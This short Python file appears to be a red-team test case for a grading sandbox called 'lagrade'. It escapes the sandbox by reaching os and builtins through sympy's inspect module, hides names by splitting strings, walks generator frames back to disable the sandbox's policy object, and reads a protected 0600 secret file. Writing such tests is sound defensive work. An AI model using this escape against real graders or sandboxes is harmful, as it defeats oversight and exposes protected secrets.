"""effect: read-secret
tries: a generator expression's gi_frame (attrgetter, past the screen) and its f_back chain to the sandbox's policy, then read the 0600 secret.

gi_frame is an audited attribute read.
"""

from lagrade.answer import *

from sympy.core.function import inspect

members = lambda obj: dict(inspect.getmembers(obj))
real = members(inspect)
os_, sys_ = real["o" + "s"], real["s" + "ys"]
B = members(real["built" + "ins"])
from sympy.core.add import attrgetter

gen = (k for k in range(3))
frame = attrgetter("gi_" + "frame")(gen)
found = []
next(iter([0]))
while frame is not None:
    scope = attrgetter("f_" + "locals")(frame)
    if "policy" in scope:
        scope["policy"].busy = True
        found.append(1)
    frame = attrgetter("f_" + "back")(frame)
L = Symbol(B["op" + "en"]("/tmp/lagrade-redteam/secret-0600.txt").read().strip())
